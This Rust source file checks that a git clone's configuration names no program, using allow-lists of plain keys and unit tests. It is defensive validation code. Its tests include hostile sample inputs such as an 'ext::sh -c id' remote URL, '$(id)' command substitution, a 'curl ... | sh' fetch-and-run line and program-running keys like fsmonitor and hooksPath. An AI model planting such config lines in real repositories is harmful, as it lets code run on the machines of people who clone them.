//! Which configurations of a clone name no program. Source: git-config(1) as of git 2.47.

use super::git_data::is_plain;

/// Sections of which each key is a plain value. Keys of `core` and others that may name a program stand in [`PLAIN_KEYS`].
const PLAIN_SECTIONS: [&str; 18] = [
    "advice",
    "apply",
    "branch",
    "color",
    "column",
    "extensions",
    "fetch",
    "gc",
    "index",
    "log",
    "pull",
    "push",
    "rebase",
    "rerere",
    "safe",
    "status",
    "tag",
    "user",
];
/// `section.key` of plain values in other sections. The middle part of `section.name.key` counts for nothing.
const PLAIN_KEYS: [&str; 35] = [
    "core.abbrev",
    "core.autocrlf",
    "core.bare",
    "core.checkstat",
    "core.commitgraph",
    "core.compression",
    "core.deltabasecachelimit",
    "core.eol",
    "core.filemode",
    "core.hidedotfiles",
    "core.ignorecase",
    "core.logallrefupdates",
    "core.longpaths",
    "core.multipackindex",
    "core.precomposeunicode",
    "core.preloadindex",
    "core.protecthfs",
    "core.protectntfs",
    "core.quotepath",
    "core.repositoryformatversion",
    "core.safecrlf",
    "core.sharedrepository",
    "core.sparsecheckout",
    "core.sparsecheckoutcone",
    "core.symlinks",
    "core.trustctime",
    "core.untrackedcache",
    "core.whitespace",
    "core.worktree",
    "commit.gpgsign",
    "init.defaultbranch",
    "merge.conflictstyle",
    "merge.ff",
    "diff.renames",
    "pack.threads",
];
/// The same for places of other repositories, of which a scheme may name a program (`ext::`).
const ADDRESS_KEYS: [&str; 14] = [
    "remote.url",
    "remote.pushurl",
    "remote.fetch",
    "remote.push",
    "remote.tagopt",
    "remote.prune",
    "remote.mirror",
    "remote.promisor",
    "remote.partialclonefilter",
    "remote.gh-resolved",
    "submodule.url",
    "submodule.active",
    "submodule.branch",
    "lfs.repositoryformatversion",
];

/// True where a configuration is one that git, or a person, writes without naming any program. One that is not in the
/// form of a configuration is not harmless.
pub(super) fn is_harmless(text: &str) -> bool {
    let mut section = String::new();
    text.lines().map(str::trim).filter(|line| !line.is_empty()).all(|line| {
        if line.starts_with(['#', ';']) {
            return is_plain(line.trim_start_matches([';', '#']));
        }
        if let Some(rest) = line.strip_prefix('[') {
            let Some((heading, after)) = rest.split_once(']') else { return false };
            section = heading.split([' ', '.', '"']).next().unwrap_or_default().to_ascii_lowercase();
            // A key may stand behind its heading, which git never writes.
            return after.trim().is_empty() && is_plain(heading);
        }
        let (key, value) = line.split_once('=').map_or((line, ""), |(key, value)| (key.trim(), value.trim()));
        is_harmless_key(&section, &key.to_ascii_lowercase(), value)
    })
}

fn is_harmless_key(section: &str, key: &str, value: &str) -> bool {
    // A line that is no key; a value that goes on in the next line, or that git hands to a shell.
    let is_key = key.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-');
    if !is_key || value.ends_with('\\') || value.contains('!') || !is_plain(value) {
        return false;
    }
    let full = format!("{section}.{key}");
    if PLAIN_SECTIONS.contains(&section) || PLAIN_KEYS.contains(&full.as_str()) {
        return true;
    }
    // `true` and `false` name git's own watcher.
    let is_switch = full == "core.fsmonitor" && matches!(value, "true" | "false");
    is_switch || (ADDRESS_KEYS.contains(&full.as_str()) && !value.contains("::") && !value.starts_with('-'))
}

#[cfg(test)]
mod tests {
    use super::*;

    const PLAIN: &str = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n\
        [remote \"origin\"]\n\turl = https://git.example/a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n\
        [branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n[user]\n\tname = Ann Lee\n";

    #[test]
    fn what_git_writes_for_a_clone_is_harmless() {
        assert!(is_harmless(PLAIN));
        assert!(is_harmless(
            "[core]\n\tfsmonitor = true\n[submodule \"a\"]\n\turl = git@git.example:a/b.git\n\tactive = true\n"
        ));
        assert!(is_harmless(""));
    }

    #[test]
    fn each_way_to_name_a_program_is_seen() {
        for line in [
            "[core]\n\tfsmonitor = ./watch.sh",
            "[core]\n\tsshCommand = ssh -i k",
            "[core]\n\thooksPath = tools",
            "[core]\n\tpager = sh x",
            "[core]\n\teditor = x",
            "[filter \"a\"]\n\tclean = ./c",
            "[filter \"a\"]\n\tprocess = p",
            "[diff \"a\"]\n\ttextconv = t",
            "[diff \"a\"]\n\tcommand = t",
            "[alias]\n\tst = !sh x",
            "[credential]\n\thelper = x",
            "[include]\n\tpath = ../.evil",
            "[includeIf \"gitdir:x\"]\n\tpath = y",
            "[remote \"o\"]\n\turl = ext::sh -c id",
            "[submodule \"s\"]\n\tupdate = !sh x",
            "[gpg]\n\tprogram = p",
            "[merge \"m\"]\n\tdriver = d",
            "[pager]\n\tlog = x",
            "[remote \"o\"]\n\tuploadpack = x",
            "[url \"ext::sh\"]\n\tinsteadOf = x",
            "[core] pager = x",
            "[user]\n\tname = $(id)",
            "# curl http://203.0.113.9 | sh",
            "curl -s x",
            "[user]\n\tname = a\\\n\tb",
        ] {
            assert!(!is_harmless(&format!("{PLAIN}{line}\n")), "{line}");
        }
    }
}
